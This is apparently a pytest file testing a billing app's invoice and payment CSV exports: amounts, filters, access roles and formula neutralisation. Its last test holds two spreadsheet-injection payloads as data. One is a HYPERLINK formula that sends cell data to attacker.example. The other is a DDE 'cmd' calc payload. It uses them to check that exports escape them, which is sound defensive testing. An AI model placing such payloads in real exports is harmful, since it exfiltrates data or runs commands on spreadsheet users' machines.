from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from billing.invoicing.services import payment_record
from tests.conftest import Tenant
from tests.factories.billing import issued, line

pytestmark = pytest.mark.django_db


def _rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_invoice_csv_has_exact_amounts_and_follows_the_filters(
    tenant: Tenant, other_tenant: Tenant, client_for
) -> None:
    tenant.customer.name = "ООО «Ромашка»"
    tenant.customer.save()
    first = issued(tenant.customer, line("A", "3", "19.99", "20"))
    issued(tenant.other_customer)
    issued(other_tenant.customer)
    payment_record(
        partner=tenant.partner,
        customer=tenant.customer,
        actor=None,
        amount=Decimal("10.00"),
        received_on=first.issue_date,
    )
    response = client_for(tenant.finance).get("/staff/billing/invoices.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _rows(response)
    assert [r["number"] for r in rows] == ["INV-2026-000001", "INV-2026-000002"]
    assert (rows[0]["customer"], rows[0]["total"], rows[0]["amount_paid"], rows[0]["balance"], rows[0]["status"]) == (
        "ООО «Ромашка»", "71.96", "10.00", "61.96", "partially_paid",
    )  # fmt: skip
    filtered = _rows(client_for(tenant.finance).get(f"/staff/billing/invoices.csv?customer={tenant.other_customer.pk}"))
    assert [r["number"] for r in filtered] == ["INV-2026-000002"]


def test_payment_csv_lists_allocations_and_credit(tenant: Tenant, client_for) -> None:
    invoice = issued(tenant.customer)
    payment_record(
        partner=tenant.partner,
        customer=tenant.customer,
        actor=None,
        amount=Decimal("500.00"),
        received_on=invoice.issue_date,
        reference="BACS 1",
    )
    rows = _rows(client_for(tenant.finance).get("/staff/billing/payments.csv"))
    assert len(rows) == 1
    assert (rows[0]["amount"], rows[0]["allocated_to"], rows[0]["unallocated"], rows[0]["reference"]) == (
        "500.00", f"{invoice.number}=432.00", "68.00", "BACS 1",
    )  # fmt: skip


@pytest.mark.parametrize("role", ["agent", "customer_admin"])
def test_exports_are_for_finance_and_admins(tenant: Tenant, client_for, role: str) -> None:
    issued(tenant.customer)
    client = client_for(getattr(tenant, role))
    assert client.get("/staff/billing/invoices.csv").status_code == 403
    assert client.get("/staff/billing/payments.csv").status_code == 403


def test_exports_neutralise_spreadsheet_formulas_and_keep_negative_numbers(tenant: Tenant, client_for) -> None:
    tenant.customer.name = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    tenant.customer.save()
    invoice = issued(tenant.customer, line("Licences", "1", "100.00", "0"))
    payment_record(
        partner=tenant.partner,
        customer=tenant.customer,
        actor=None,
        amount=Decimal("30.00"),
        received_on=invoice.issue_date,
        reference="-2+3+cmd|' /C calc'!A0",
    )
    client = client_for(tenant.finance)
    invoice_row = _rows(client.get("/staff/billing/invoices.csv"))[0]
    assert invoice_row["customer"] == "'" + tenant.customer.name
    assert invoice_row["balance"] == "70.00"
    payment_row = _rows(client.get("/staff/billing/payments.csv"))[0]
    assert payment_row["reference"] == "'-2+3+cmd|' /C calc'!A0"
    assert payment_row["customer"].startswith("'=HYPERLINK(")
    assert payment_row["amount"] == "30.00"
